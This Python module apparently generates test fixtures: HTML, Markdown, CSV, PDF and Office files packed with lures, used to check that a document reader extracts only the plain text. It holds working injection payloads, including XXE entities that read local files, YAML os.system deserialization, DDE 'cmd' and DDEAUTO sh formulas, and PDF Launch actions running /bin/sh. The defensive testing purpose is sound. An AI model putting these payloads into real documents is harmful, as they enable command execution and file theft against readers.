"""Files that would have a careless reader call a server, run or open something; each is `PLAIN`."""

import re
import zipfile
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import docx
import openpyxl
import pptx
from docx.opc.constants import RELATIONSHIP_TYPE
from openpyxl.worksheet.hyperlink import Hyperlink
from pptx.util import Inches

TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
PLAIN = "Leave lapses at the end of May."
SECRET = "Nobody may read this sentence of another file."  # no password


@dataclass(frozen=True)
class Lures:
    url: str
    """Of a server that counts who calls, with a slash at its end."""
    secret: Path
    pipe: Path
    marker: Path

    @property
    def entities(self) -> str:
        return (
            f'<!ENTITY file SYSTEM "{self.secret.as_uri()}">'
            f'<!ENTITY pipe SYSTEM "{self.pipe.as_uri()}">'
            f'<!ENTITY net SYSTEM "{self.url}entity">'
            f'<!ENTITY % dtd SYSTEM "{self.url}dtd"> %dtd;'
        )


def html(lures: Lures) -> bytes:
    url, secret = lures.url, lures.secret.as_uri()
    return f"""<!DOCTYPE html [{lures.entities}]>
<html><head><base href="{url}"><link rel="stylesheet" href="{url}style.css">
<meta http-equiv="refresh" content="0; url={url}refresh"><link rel="import" href="{secret}">
<style>@import url("{url}import.css"); body {{ background: url({url}ground.png) }}
@font-face {{ font-family: f; src: url({url}font) }}</style>
<script src="{url}script.js"></script><script>fetch("{url}fetched")</script></head>
<body onload="fetch('{url}loaded')"><p>{PLAIN} &file; &net;</p>
<img src="{url}picture.png" onerror="fetch('{url}error')"><img src="{secret}">
<iframe src="{url}frame"></iframe><iframe src="{secret}"></iframe>
<object data="{url}object"></object><embed src="{secret}"><video src="{url}film"></video>
<svg><image href="{url}svg.png"/><use href="{url}use.svg#a"/></svg>
<form action="{url}form"><input autofocus onfocus="submit()"></form>
<a href="javascript:fetch('{url}clicked')" ping="{url}ping">Ask us.</a></body></html>""".encode()


def markdown(lures: Lures) -> bytes:
    url, secret = lures.url, lures.secret.as_uri()
    return f"""---
title: Leave
link: {url}stated
---

# Leave

{PLAIN}

![a picture]({url}picture.png) ![another]({secret}) [a link]({url}link) <{url}auto>

<script src="{url}script.js"></script> <iframe src="{secret}"></iframe> <img src="{url}raw.png">

{{% include {lures.secret} %}} {{{{ "{url}" | fetch }}}}

[reference]: {url}reference
""".encode()


def yaml_that_runs(lures: Lures) -> bytes:
    return f"""---
title: !!python/object/apply:os.system ["touch {lures.marker}"]
---

{PLAIN}
""".encode()


def csv(lures: Lures) -> bytes:
    return f"""Rule,Link
{PLAIN},"=HYPERLINK(""{lures.url}cell"")"
Other,"=cmd|'/C touch {lures.marker}'!A0"
More,"=IMPORTDATA(""{lures.secret.as_uri()}"")"
""".encode()


def docx_file(lures: Lures) -> bytes:
    document = docx.Document()
    document.add_paragraph(PLAIN)
    for kind in (RELATIONSHIP_TYPE.IMAGE, RELATIONSHIP_TYPE.HYPERLINK, RELATIONSHIP_TYPE.A_F_CHUNK):
        document.part.relate_to(f"{lures.url}{kind[-5:]}", kind, is_external=True)
        document.part.relate_to(lures.secret.as_uri(), kind, is_external=True)
    for template in (f"{lures.url}template.dotm", lures.pipe.as_uri()):
        document.part._settings_part.relate_to(template, TEMPLATE, is_external=True)  # noqa: SLF001
    paragraph = document.add_paragraph()
    for code in (f'INCLUDETEXT "{lures.secret}"', f'DDEAUTO sh "-c \\"touch {lures.marker}\\""'):
        field = paragraph._p.makeelement(  # noqa: SLF001
            "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}fldSimple",
            {"{http://schemas.openxmlformats.org/wordprocessingml/2006/main}instr": code},
        )
        paragraph._p.append(field)  # noqa: SLF001
    return _saved(document)


def docx_with_macros(_: Lures) -> bytes:
    return _with(_simple_docx(), {"word/vbaProject.bin": b"Sub AutoOpen()"})


def docx_with_entities(lures: Lures) -> bytes:
    return _with_entities(_simple_docx(), "word/document.xml", "w:document", lures)


def xlsx(lures: Lures) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    for row in (
        ["Rule", "Value"],
        [PLAIN, f'=WEBSERVICE("{lures.url}cell")'],
        ["Other", f"=cmd|'/C touch {lures.marker}'!A0"],
        ["More", f"='{lures.secret.parent}/[{lures.secret.name}]Sheet1'!A1"],
        ["Link", "here"],
    ):
        sheet.append(row)
    sheet["B5"].hyperlink = Hyperlink(ref="B5", target=f"{lures.url}link")
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    external = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="rId1" Type="{relation}/externalLinkPath" '
        f'Target="{lures.url}other.xlsx" TargetMode="External"/></Relationships>'
    ).encode()
    worked_out = _changed(_saved(book), lambda _, text: re.sub("<v ?/>|<v></v>", "<v>1</v>", text))
    return _with(worked_out, {"xl/externalLinks/_rels/externalLink1.xml.rels": external})


def xlsx_with_entities(lures: Lures) -> bytes:
    book = openpyxl.Workbook()
    book.worksheets[0].append([PLAIN])
    return _with_entities(_saved(book), "xl/worksheets/sheet1.xml", "worksheet", lures)


def pptx_file(lures: Lures) -> bytes:
    deck = pptx.Presentation()
    slide = deck.slides.add_slide(deck.slide_layouts[5])
    slide.shapes.add_textbox(0, 0, Inches(3), Inches(1)).text_frame.text = PLAIN
    run = slide.shapes.add_textbox(0, 0, Inches(3), Inches(1)).text_frame.paragraphs[0].add_run()
    run.text, run.hyperlink.address = "Ask us.", f"{lures.url}link"
    for target in (f"{lures.url}picture.png", lures.secret.as_uri(), lures.pipe.as_uri()):
        for kind in (RELATIONSHIP_TYPE.IMAGE, RELATIONSHIP_TYPE.OLE_OBJECT):
            slide.part.relate_to(target, kind, is_external=True)
    return _saved(deck)


def pdf(lures: Lures) -> bytes:
    """Actions of every kind, a file within it, and pictures and streams that lie elsewhere."""
    text = f"BT /F1 12 Tf 72 700 Td ({PLAIN}) Tj ET".encode()
    script = f"app.launchURL('{lures.url}script'); this.submitForm('{lures.url}form');"
    actions = (
        f"<< /S /URI /URI ({lures.url}uri) >>",
        f"<< /S /Launch /F (/bin/sh) /Unix << /F (/bin/sh) /P (touch {lures.marker}) >> >>",
        f"<< /S /GoToR /F << /FS /URL /F ({lures.url}other.pdf) >> /D [0 /Fit] >>",
        f"<< /S /ImportData /F ({lures.secret}) >>",
        f"<< /S /SubmitForm /F << /FS /URL /F ({lures.url}submit) >> >>",
    )
    links = " ".join(
        f"<< /Type /Annot /Subtype /Link /Rect [70 600 200 620] /A {action} "
        f"/AA << /PO {action} /PV {action} >> >>"
        for action in actions
    )
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (%b) >> "
        b"/AA << /WC << /S /URI /URI (%bclose) >> >> /Names << /EmbeddedFiles << /Names "
        b"[(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >> >>"
        % (script.encode(), lures.url.encode()),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents [4 0 R 8 0 R] "
        b"/AA << /O << /S /URI /URI (%bopened) >> >> /Annots [%b] /Resources << /Font << /F1 5 0 R "
        b">> /XObject << /I 7 0 R >> >> >>" % (lures.url.encode(), links.encode()),
        _stream(b"", text + b" q 100 0 0 100 72 400 cm /I Do Q"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(b"/Type /EmbeddedFile", b"MZ"),
        _stream(
            b"/Subtype /Image /Width 2 /Height 2 /ColorSpace /DeviceGray /BitsPerComponent 8 "
            b"/F << /FS /URL /F (%bpicture) >>" % lures.url.encode(),
            b"",
        ),
        _stream(b"/F (%b)" % str(lures.pipe).encode(), b""),
    ]
    return _pdf_of(objects)


FORMATS: Mapping[str, tuple[str, Callable[[Lures], bytes]]] = {
    "HTML": ("a.html", html),
    "Markdown": ("a.md", markdown),
    "front matter": ("b.md", yaml_that_runs),
    "text": ("a.txt", html),
    "CSV": ("a.csv", csv),
    "PDF": ("a.pdf", pdf),
    "DOCX": ("a.docx", docx_file),
    "DOCX with macros": ("c.docx", docx_with_macros),
    "DOCX with entities": ("b.docx", docx_with_entities),
    "XLSX": ("a.xlsx", xlsx),
    "XLSX with entities": ("b.xlsx", xlsx_with_entities),
    "PPTX": ("a.pptx", pptx_file),
}


def _simple_docx() -> bytes:
    document = docx.Document()
    document.add_paragraph(PLAIN)
    return _saved(document)


def _saved(document: object) -> bytes:
    buffer = BytesIO()
    document.save(buffer)  # type: ignore[attr-defined]  # of three libraries
    return buffer.getvalue()


def _with(archive: bytes, more: Mapping[str, bytes]) -> bytes:
    buffer = BytesIO(archive)
    with zipfile.ZipFile(buffer, "a") as held:
        for name, content in more.items():
            held.writestr(name, content)
    return buffer.getvalue()


def _changed(archive: bytes, change: Callable[[str, str], str]) -> bytes:
    """Each XML part as `change` makes it of its name and text."""
    buffer = BytesIO()
    with zipfile.ZipFile(BytesIO(archive)) as old, zipfile.ZipFile(buffer, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(name, content.decode()) if name.endswith(".xml") else content)
    return buffer.getvalue()


def _with_entities(archive: bytes, part: str, root: str, lures: Lures) -> bytes:
    def change(name: str, text: str) -> str:
        if name != part and not name.endswith("sharedStrings.xml"):
            return text
        text = text.replace(PLAIN, f"{PLAIN} &file; &pipe; &net;")
        head = text.index("?>") + 2 if text.startswith("<?xml") else 0
        kind = root if name == part else "sst"
        return f"{text[:head]}<!DOCTYPE {kind} [{lures.entities}]>{text[head:]}"

    return _changed(archive, change)


def _stream(entries: bytes, content: bytes) -> bytes:
    return b"<< %b /Length %d >>\nstream\n%b\nendstream" % (entries, len(content), content)


def _pdf_of(objects: list[bytes]) -> bytes:
    made, places = b"%PDF-1.7\n", []
    for number, each in enumerate(objects, start=1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, each)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return made + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        start,
    )
